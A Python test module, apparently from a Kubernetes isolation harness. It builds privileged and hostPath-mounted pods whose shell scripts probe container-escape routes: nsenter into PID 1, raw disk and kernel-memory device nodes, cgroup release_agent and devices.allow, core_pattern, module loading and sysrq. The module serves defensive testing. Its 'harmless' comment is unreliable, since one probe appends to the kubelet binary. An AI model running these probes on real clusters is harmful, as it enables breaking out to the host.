"""A pod with every right Kubernetes can give, that tries the known ways out of its node."""

from __future__ import annotations

import os
from pathlib import Path
from typing import NamedTuple

from support.manifests import Object, pod

# Each `try` prints "<name> open" or "<name> refused". Nothing here harms a host on which a way is open.
SCRIPT = r"""
exec 2>/dev/null
try() { name=$1; shift; if (eval "$*") >/dev/null; then echo "$name open"; else echo "$name refused"; fi; }
python() { chroot /host /usr/bin/python3 -I -c "$1"; }
mkdir -p /t /c

# that the tools of the attacks work at all
try control-find 'find / /host -xdev -name supervisor.py | grep -q .'
try control-enter 'nsenter -t 1 -m -u -n -i -p -- find /etc -name supervisor.py | grep -q .'
try control-write 'echo x > /host/etc/CANARY-control && rm /host/etc/CANARY-control'
try control-python 'python "import ctypes, fcntl"'
try control-device 'head -c 1 /dev/zero'
try control-mount 'mount -t tmpfs none /t && umount /t'
try control-priority 'python "import os; os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0))"'

# files
try canary 'find / /host -xdev -name "CANARY" 2>/dev/null | grep -q . || nsenter -t 1 -m -- find / -name "CANARY" | grep -q .'
try shadow '[ "$(stat -c %i /host/etc/shadow)" = SHADOW ]'
try usr 'echo x > /host/usr/bin/CANARY'
try usr-remounted 'mount -o remount,rw /host/usr && echo x > /host/usr/bin/CANARY'
try binary 'echo x >> /host/usr/local/bin/kubelet'
try shared-files 'find /host/var /host/etc /host/opt /host/root -xdev -type f -links +1 | grep -q .'
try handles 'python "
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
handle = struct.pack(\"IiII\", 8, 1, 2, 0)  # the root directory of the file system that the node state is on
raise SystemExit(libc.open_by_handle_at(os.open(\"/var\", os.O_RDONLY), handle, os.O_RDONLY) < 0)"'

# processes, namespaces, network
try host-process 'grep -qs MARKER /proc/[0-9]*/cmdline'
try first-process 'nsenter -t 1 -m -u -n -i -p -- test ! -e /etc/minikube/supervisor.py'
try next-namespace 'python "
import fcntl
for step in (0x8010B70B, 0x8010B70C):
    try: fcntl.ioctl(open(\"/proc/self/ns/mnt\"), step, bytes(16))
    except PermissionError: continue
    except OSError as error: raise SystemExit(error.errno != 2)
    raise SystemExit(0)
raise SystemExit(1)"'
try host-network 'ip link | grep -q "mk-"'
try host-loopback 'nc -w 3 127.0.0.1 PORT < /dev/null'
try host-service 'nc -w 3 SERVICE < /dev/null'
try other-etcd '[ -n "OTHER" ] && nc -w 3 OTHER 2379 < /dev/null'
try other-api '[ -n "OTHER" ] && nc -w 3 OTHER 8443 < /dev/null'

# devices
mknod /tmp/disk b MAJOR MINOR
try disk 'head -c 1 /tmp/disk'
try disk-mounted 'mount -t ext4 -o ro /tmp/disk /t'
try devtmpfs 'mount -t devtmpfs none /t && cat /t/vda /t/sda /t/nvme0n1 /t/mem /t/kmsg | head -c 1 | grep -q .'
umount /t
mknod /tmp/kmsg c 1 11
try kernel-log 'dd if=/tmp/kmsg bs=4096 count=1 || dmesg'
mknod /tmp/mem c 1 1
try kernel-memory 'head -c 1 /tmp/mem || head -c 1 /proc/kcore'
try sysrq 'echo h > /proc/sysrq-trigger'
echo junk > /tmp/junk.ko
try module 'insmod /tmp/junk.ko 2>&1 | grep -iqE "exec format|invalid"'
try uevent-helper 'cat /sys/kernel/uevent_helper > /tmp/u && cat /tmp/u > /sys/kernel/uevent_helper'
try clock '! date -s "$(date "+%Y-%m-%d %H:%M:%S")" 2>&1 | grep -q "can.t set"'
try real-time 'python "import os; os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))"'

# control groups
try release-agent 'find /sys/fs/cgroup /host/sys/fs/cgroup -name release_agent | grep -q .'
try new-hierarchy 'mount -t cgroup -o none,name=out none /c'
before=$(cat /host/sys/fs/cgroup/memory/memory.limit_in_bytes)
echo -1 > /host/sys/fs/cgroup/memory/memory.limit_in_bytes
echo max > /host/sys/fs/cgroup/memory.max
echo a > /host/sys/fs/cgroup/devices/devices.allow
for group in /host/sys/fs/cgroup/devices/kubepods /host/sys/fs/cgroup/devices/kubepods/*/ $(find /host/sys/fs/cgroup/devices -type d); do
  echo "b MAJOR:MINOR rwm" > $group/devices.allow
done
try disk-allowed 'head -c 1 /tmp/disk'

# settings of the host's kernel, through a /proc of the attacker's own; the value that is there already is written
mount -t proc none /t
try core-pattern 'cat /t/sys/kernel/core_pattern > /tmp/p && cat /tmp/p > /t/sys/kernel/core_pattern'
umount /t
try tracing 'mount -t tracefs none /t && test -e /t/tracing_on'
umount /t
echo "limit $(cat /host/sys/fs/cgroup/memory/memory.limit_in_bytes)"
[ -z "$before" ] || echo $before > /host/sys/fs/cgroup/memory/memory.limit_in_bytes
exit 0
"""


# The same by a pod without any right but that to mount directories of its node: root in a container, and no more.
ORDINARY_SCRIPT = r"""
exec 2>/dev/null
try() { name=$1; shift; if (eval "$*") >/dev/null; then echo "$name open"; else echo "$name refused"; fi; }
same() { value=$(cat "$1") && echo "$value" > "$1"; }

try control-volume 'echo x > /host/etc/CANARY-control && rm /host/etc/CANARY-control'
try control-settings 'cat /settings/kernel/core_pattern'

try setting-in-dev 'same /host/dev/.minikube/proc/sys/kernel/core_pattern || same /dev-of-node/.minikube/proc/sys/kernel/core_pattern'
try setting-in-proc 'same /host/proc/sys/kernel/core_pattern'
try setting-by-volume 'same /settings/kernel/core_pattern'
try setting-of-container 'for file in /host/run/containerd/*/*/*/rootfs/proc/sys/kernel/core_pattern; do same $file && exit; done; false'
try setting-of-process 'for file in /host/proc/[0-9]*/root/proc/sys/kernel/core_pattern; do same $file && exit; done; false'
try interrupts 'same /interrupts/default_smp_affinity || same /host/proc/irq/default_smp_affinity'
try sysrq-by-volume 'echo h > /host/proc/sysrq-trigger && ! stat -c %t,%T /host/proc/sysrq-trigger | grep -q 1,3'
try sysfs-by-volume 'same /kernel/kernel/mm/ksm/sleep_millisecs || same /host/dev/.minikube/sys/kernel/mm/ksm/sleep_millisecs'
try agent-by-volume 'find /groups /host/sys/fs/cgroup -name release_agent | grep -q .'
mknod /tmp/disk b MAJOR MINOR
for group in $(find /groups -name devices.allow); do echo "b MAJOR:MINOR rwm" > $group; done
try disk-by-volume 'head -c 1 /tmp/disk'
exit 0
"""
_VOLUMES = {
    "/host": "/",
    "/dev-of-node": "/dev",
    "/settings": "/proc/sys",
    "/interrupts": "/proc/irq",
    "/kernel": "/sys",
    "/groups": "/sys/fs/cgroup",
}


class Prey(NamedTuple):
    """What of the host the attacker is after."""

    canary: str
    marker: str
    port: int
    service: str
    """Address and port of a server on the host's end of the node's network."""
    other_node: str


def attacker(name: str) -> Object:
    """Privileged, in the node's namespaces, with all of the node's files at /host."""
    made = pod(name)
    made["spec"] |= {"hostPID": True, "hostNetwork": True, "hostIPC": True}
    made["spec"]["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    made["spec"]["containers"][0] |= {
        "securityContext": {"privileged": True},
        "volumeMounts": [{"name": "root", "mountPath": "/host"}],
    }
    return made


def ordinary(name: str) -> Object:
    """No rights of its own: only volumes."""
    made = pod(name)
    paths = {place.strip("/"): path for place, path in _VOLUMES.items()}
    made["spec"]["volumes"] = [{"name": volume, "hostPath": {"path": path}} for volume, path in paths.items()]
    made["spec"]["containers"][0]["volumeMounts"] = [{"name": volume, "mountPath": f"/{volume}"} for volume in paths]
    return made


def script(prey: Prey, template: str = SCRIPT) -> str:
    """The attacks, aimed."""
    disk = Path("/").stat().st_dev
    words = {
        "CANARY": prey.canary,
        "MARKER": prey.marker,
        "SHADOW": str(Path("/etc/shadow").stat().st_ino),
        "MAJOR": str(os.major(disk)),
        "MINOR": str(os.minor(disk)),
        "PORT": str(prey.port),
        "OTHER": prey.other_node,
        "SERVICE": prey.service,
    }
    text = template
    for word, value in words.items():
        text = text.replace(word, value)
    return text
